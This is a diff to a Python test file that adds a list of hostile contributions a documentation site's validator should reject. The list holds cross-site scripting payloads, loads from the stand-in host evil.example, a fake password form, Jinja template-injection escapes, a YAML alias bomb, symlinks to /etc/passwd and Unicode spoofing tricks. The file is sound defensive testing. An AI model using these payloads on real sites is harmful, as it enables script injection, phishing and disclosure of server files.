@@ -104,3 +104,99 @@ BAD = [
     ("bad-item-id", C, checklist("      - id: two", "      - id: Two Item")),
     ("empty-section", C, checklist("    items:\n      - id: one\n        text: 第一項\n      - id: two\n        text: 第二項\n", "")),
 ]
+
+
+# --- hostile or careless contributions: content is data, never code (issue 13) ---------------------------
+
+from pathlib import Path  # noqa: E402
+
+ROOT = Path(__file__).resolve().parent.parent
+D = "docs/test-page.md"
+
+
+class Symlink(str):
+    """A contribution that is a symbolic link to this target instead of a file."""
+
+
+def body(text: str) -> str:
+    """The good playbook with text as its prose."""
+    return GOOD_PLAYBOOK.replace("\n內文。\n", "\n" + text + "\n")
+
+
+def page(text: str, front: str = "title: 測試頁") -> str:
+    """A hand-written page under docs/."""
+    return f"---\n{front}\n---\n\n{text}\n"
+
+
+def first_playbook() -> tuple[str, int | None]:
+    """A real playbook (file name and path_order) to collide with."""
+    for path in sorted((ROOT / "playbooks").glob("*.md")):
+        for line in path.read_text(encoding="utf-8").split("\n"):
+            if line.startswith("path_order:"):
+                return path.stem, int(line.split(":")[1])
+    raise LookupError("no playbook declares path_order")
+
+
+TAKEN_SLUG, TAKEN_ORDER = first_playbook()
+
+BAD += [
+    ("body-script", P, body("說明。<script>alert(document.cookie)</script>")),
+    ("body-script-uppercase", P, body("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
+    ("body-iframe", P, body('<iframe src="https://evil.example/"></iframe>')),
+    ("body-meta-refresh", P, body('<meta http-equiv="refresh" content="0;url=https://evil.example/">')),
+    ("body-base", P, body('<base href="https://evil.example/">')),
+    ("body-link-stylesheet", P, body('<link rel="stylesheet" href="https://evil.example/x.css">')),
+    ("body-style-element", P, body("<style>body { display: none }</style>")),
+    ("body-object", P, body('<object data="https://evil.example/x.swf"></object>')),
+    ("body-embed", P, body('<embed src="https://evil.example/x.swf">')),
+    ("body-form", P, body('<form action="https://evil.example/"><input name="pw"></form>')),
+    ("body-svg-onload", P, body("<svg onload=alert(1)></svg>")),
+    ("body-event-handler", P, body('<span onmouseover="alert(1)">滑過來</span>')),
+    ("body-style-attribute", P, body('<span style="position:fixed;top:0">假公告</span>')),
+    ("body-javascript-link", P, body("[點我](javascript:alert(1))")),
+    ("body-javascript-entity-tab", P, body("[點我](java&#9;script:alert(1))")),
+    ("body-javascript-mixed-case", P, body('<a href="JaVaScRiPt:alert(1)">點我</a>')),
+    ("body-vbscript-link", P, body("[點我](vbscript:msgbox(1))")),
+    ("body-data-image", P, body("![圖](data:image/svg+xml;base64,PHN2Zz4=)")),
+    ("body-javascript-reference", P, body("[點我][x]\n\n[x]: javascript:alert(1)")),
+    ("body-javascript-autolink", P, body("<javascript:alert(1)>")),
+    ("body-attr-list-handler", P, body('## 小標 {: onmouseover="alert(1)" }')),
+    ("body-attr-list-style", P, body("一段話。\n{: style=\"display:none\" }")),
+    ("body-external-image", P, body("![追蹤像素](https://evil.example/pixel.png)")),
+    ("body-protocol-relative-image", P, body('<img src="//evil.example/pixel.png" alt="">')),
+    ("body-srcset", P, body('<img src="a.png" srcset="https://evil.example/x.png 2x" alt="">')),
+    ("body-external-link", P, body("[公司公告](https://evil.example/login)")),
+    ("body-unclosed-tag", P, body('<img src="a.png"\nonerror="alert(1)">')),
+    ("body-internal-placeholder", P, body('<div data-hb-slot="0"></div>')),
+    ("body-duplicate-heading-id", P, body("## 甲 {#same}\n\n## 乙 {#same}")),
+    ("body-generated-heading-id", P, body("## 我的步驟 {#steps}")),
+    ("body-long-line", P, body("很" * 5001)),
+    ("body-many-brackets", P, body("[" * 600)),
+    ("file-too-large", P, body(("一段很長的說明文字。" * 50 + "\n\n") * 450)),
+    ("yaml-anchor", P, playbook("symptoms:\n  - 不知道該找誰", "symptoms: &s\n  - 不知道該找誰")),
+    ("yaml-alias-bomb", C, "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+                           "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n" + GOOD_CHECKLIST),
+    ("title-newline", P, playbook("title: 測試劇本", 'title: "測試\\n劇本"')),
+    ("title-zero-width", P, playbook("title: 測試劇本", 'title: "測試\\u200b劇本"')),
+    ("title-bidi-override", P, playbook("title: 測試劇本", 'title: "測試\\u202e本劇"')),
+    ("title-nul", P, playbook("title: 測試劇本", 'title: "測試\\0劇本"')),
+    ("summary-jinja-comment", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個 {# 註解 #} 劇本。")),
+    ("section-title-markdown-link", C, checklist("    title: 第一段", "    title: 請先登入[公司系統](https://evil.example)")),
+    ("item-text-attr-list", C, checklist("        text: 第二項", "        text: '第二項 {: onclick=alert(1) }'")),
+    ("meeting-too-short", P, playbook("  minutes: 45", "  minutes: 5")),
+    ("duplicate-path-order", P, playbook("review_by: 2027-06-30", f"review_by: 2027-06-30\npath_order: {TAKEN_ORDER}")),
+    ("content-symlink", "playbooks/leak.md", Symlink("/etc/passwd")),
+    ("docs-symlink", "docs/leak.md", Symlink("/etc/passwd")),
+    ("docs-globals-escape", D, page("{{ phase_diagram.__globals__ }}")),
+    ("docs-class-escape", D, page("正文\n\n{{ ''.__class__.__mro__[1].__subclasses__() }}")),
+    ("docs-config-leak", D, page("{{ config }}")),
+    ("docs-include-file", D, page('{% include "../mkdocs.yml" %}')),
+    ("docs-template-syntax", D, page("{{ phase_diagram( }}")),
+    ("docs-macro-bad-argument", D, page('{{ swimlane("no-such-playbook") }}')),
+    ("docs-script", D, page("<script>alert(1)</script>")),
+    ("docs-bad-review-by", D, page("正文", "title: 測試頁\nreview_by: 2027/06/30")),
+    ("docs-generated-field", D, page("正文", "title: 測試頁\nhb_kind: playbooks\nhb_id: one-channel")),
+    ("docs-unknown-field", D, page("正文", "title: 測試頁\nrender_macro: true")),
+    ("docs-bad-front-matter", D, page("正文", "title: [測試頁")),
+    ("docs-shadowed-page", "docs/playbooks/index.md", page("我的劇本索引")),
+]
